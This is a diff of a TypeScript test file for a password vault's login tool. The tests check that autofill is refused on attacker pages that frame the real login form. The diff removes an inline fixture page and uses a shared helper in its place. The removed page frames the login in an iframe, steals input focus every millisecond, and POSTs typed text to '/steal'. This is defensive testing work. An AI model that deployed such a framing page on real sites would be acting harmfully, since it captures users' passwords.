@@ -9,7 +9,12 @@ import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { callTool, textOf } from '../../../helpers/mcp-agent.js';
 import { startSite, type FixtureSite } from '../../../fixtures/sites/index.js';
-import { startRecordingSite, type RecordingRoute, type RecordingSite } from '../../../helpers/recording-site.js';
+import {
+  focusStealingPage,
+  startRecordingSite,
+  type RecordingRoute,
+  type RecordingSite,
+} from '../../../helpers/recording-site.js';
 import { startTestServer, type TestServer } from '../../../helpers/test-server.js';
 import { distinctSecret, findSecrets, type Json } from '../../../helpers/vault-logins.js';
 
@@ -164,16 +169,6 @@ describe('a login pointed at a page off the saved origins (it frames the real lo
     await legit?.close();
   });
 
-  /** The framing page: the real login page in an iframe, and an input of its own that keeps taking the focus. */
-  const framingPage = (loginUrl: string) => `<!doctype html><title>Sign in</title>
-    <iframe src="${loginUrl}" style="width:640px;height:640px" title="Sign in"></iframe>
-    <input id="steal" aria-label="steal">
-    <script>
-      const s = document.getElementById('steal');
-      setInterval(() => { if (document.activeElement !== s) s.focus(); }, 1);
-      s.addEventListener('input', () => fetch('/steal', { method: 'POST', body: s.value }));
-    </script>`;
-
   it.each([
     ['another site (localhost)', 'localhost'],
     ['the same site (another port)', '127.0.0.1'],
@@ -181,7 +176,7 @@ describe('a login pointed at a page off the saved origins (it frames the real lo
   ] as const)('on %s: refused before any page loads, over HTTP and MCP', async (_name, host) => {
     const attacker = await startRecordingSite(host, {});
     try {
-      attacker.route('/', framingPage(legit.loginUrl));
+      attacker.route('/', focusStealingPage(legit.loginUrl));
       const id = await saveLogin(`Framed ${host}`, legit.loginUrl, password);
       const { status, body } = await post('/api/login', { credential: id, domain: attacker.url('/'), useCache: false });
       expect(status, JSON.stringify(body)).toBe(422);
